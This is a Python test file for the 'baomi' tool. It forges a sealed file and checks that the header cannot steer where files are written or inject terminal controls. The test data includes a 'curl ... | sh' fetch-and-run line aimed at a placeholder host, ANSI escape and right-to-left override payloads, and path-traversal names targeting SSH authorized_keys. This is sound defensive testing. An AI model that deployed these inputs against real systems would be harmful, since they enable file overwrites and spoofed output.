"""Issue 10 finding 10: a sealed file forged with the committee's public key chooses neither the
name `open` writes to nor what reaches the terminal. Done as the hostile share user would: the
real public key, a real sealed file with a crafted header, the installed ``baomi``."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from labelers.keys import (
    generate_keypair,
    load_public_key,
    write_private_key,
    write_public_key,
)
from labelers.seal import seal_file
from scanner.names import safe_basename
from tests.cli.test_protect import PASSPHRASE
from tests.clirun import baomi

# each test runs in this process (quick tier) and as the installed script (slow), see
# tests/clirun.py; a test that only means something as a separate process is script_only
pytestmark = pytest.mark.usefixtures("cli_mode_env")

ESC = "\x1b"
CSI = "\x9b"  # the one-character C1 form of ESC [
TITLE = f"{ESC}]0;pwned{ESC}\\"  # sets the terminal title
CLEAR = f"{ESC}[2J{ESC}[H"  # clears the screen
RLO = "\u202e"  # right-to-left override: "txt.exe" shown as "exe.txt"


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The committee's key pair, made once for the module. The private key's scrypt cost is
    lowered (2**14): every `open` derives it again, and `keys generate` at the real cost is
    tested in tests/cli/test_protect.py."""
    where = tmp_path_factory.mktemp("keys")
    key = generate_keypair("committee")
    write_public_key(where / "committee.pub", key.public)
    write_private_key(where / "committee.key", key, PASSPHRASE, scrypt_n=2**14)
    return where


def _forge(tmp_path: Path, keys: Path, original_name: str) -> Path:
    payload = tmp_path / "payload.txt"
    payload.write_text("curl http://example.invalid/x | sh\n", encoding="utf-8")
    forged = tmp_path / "share" / "会议纪要.docx.baomi"
    forged.parent.mkdir()
    seal_file(
        payload,
        forged,
        [load_public_key(keys / "committee.pub")],
        {
            "original_name": original_name,
            "original_size": f"12{CLEAR}",
            "label": {"text": f"内部{TITLE}{CSI}31m", f"k{ESC}[5m": "v"},
            "categories": [f"general{ESC}[8m", RLO + "cod.exe"],
            "sealed_at": f"2024-01-01{CSI}2J",
            "expires": "2099-01-01",
        },
    )
    return forged


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    return {
        "BAOMI_HOME": str(tmp_path / "home"),
        "BAOMI_PASSPHRASE": PASSPHRASE,
        "BAOMI_DB": "",
        "BAOMI_CONFIG": "",
        "BAOMI_FINGERPRINT_KEY": "",
        "BAOMI_AUDIT_HEAD": "",
    }


def _no_terminal_controls(out: str) -> None:
    for ch in (ESC, CSI, RLO, "\x07"):
        assert ch not in out, repr(out)


@pytest.mark.parametrize(
    "original_name,expected",
    [
        (".bash_profile", "bash_profile"),
        ("../../.ssh/authorized_keys", "authorized_keys"),
        (f"..{ESC}[2J", "[2J"),
        ("/", "会议纪要.docx"),  # nothing usable: the sealed file's own name
    ],
)
def test_open_writes_a_safe_base_name(
    tmp_path: Path, env: dict[str, str], keys: Path, original_name: str, expected: str
) -> None:
    forged = _forge(tmp_path, keys, original_name)
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    r = baomi(
        "open", str(forged), "--key", str(keys / "committee.key"),
        "--reason", "核对", cwd=cwd, env=env,
    )  # fmt: skip
    assert r.returncode == 0, (r.stdout, r.stderr)
    assert sorted(p.name for p in cwd.iterdir()) == [expected]
    assert not (tmp_path / ".ssh").exists()
    _no_terminal_controls(r.stdout + r.stderr)
    # --out a folder: the same safe name inside it.
    out_dir = tmp_path / "outdir"
    out_dir.mkdir()
    r = baomi(
        "open", str(forged), "--key", str(keys / "committee.key"),
        "--reason", "核对", "--out", str(out_dir), env=env,
    )  # fmt: skip
    assert r.returncode == 0, (r.stdout, r.stderr)
    assert sorted(p.name for p in out_dir.iterdir()) == [expected]


def test_info_escapes_every_header_string(tmp_path: Path, env: dict[str, str], keys: Path) -> None:
    forged = _forge(tmp_path, keys, f"报告{ESC}[31m.docx")
    table = baomi("info", str(forged), env=env)
    assert table.returncode == 0, table.stderr
    _no_terminal_controls(table.stdout + table.stderr)
    assert "\\x1b[2J" in table.stdout and "\\x1b]0;pwned" in table.stdout
    assert "\\xe2\\x80\\xaecod.exe" in table.stdout  # the override shown, not obeyed
    raw = baomi("info", str(forged), "--format", "json", env=env)
    assert raw.returncode == 0, raw.stderr
    _no_terminal_controls(raw.stdout)
    data = json.loads(raw.stdout)
    _no_terminal_controls(json.dumps(data, ensure_ascii=False))
    assert data["original_name"] == "报告\\x1b[31m.docx"
    assert data["label"]["text"] == "内部\\x1b]0;pwned\\x1b\\\\\\xc2\\x9b31m"


def test_safe_basename_rules() -> None:
    assert safe_basename("...") == "opened"
    assert safe_basename(None, "x.docx") == "x.docx"
    assert safe_basename("a\\..\\.b") == "b"
    assert safe_basename("名" * 200).encode() == ("名" * 85).encode()
    assert safe_basename(" .hidden ") == "hidden"
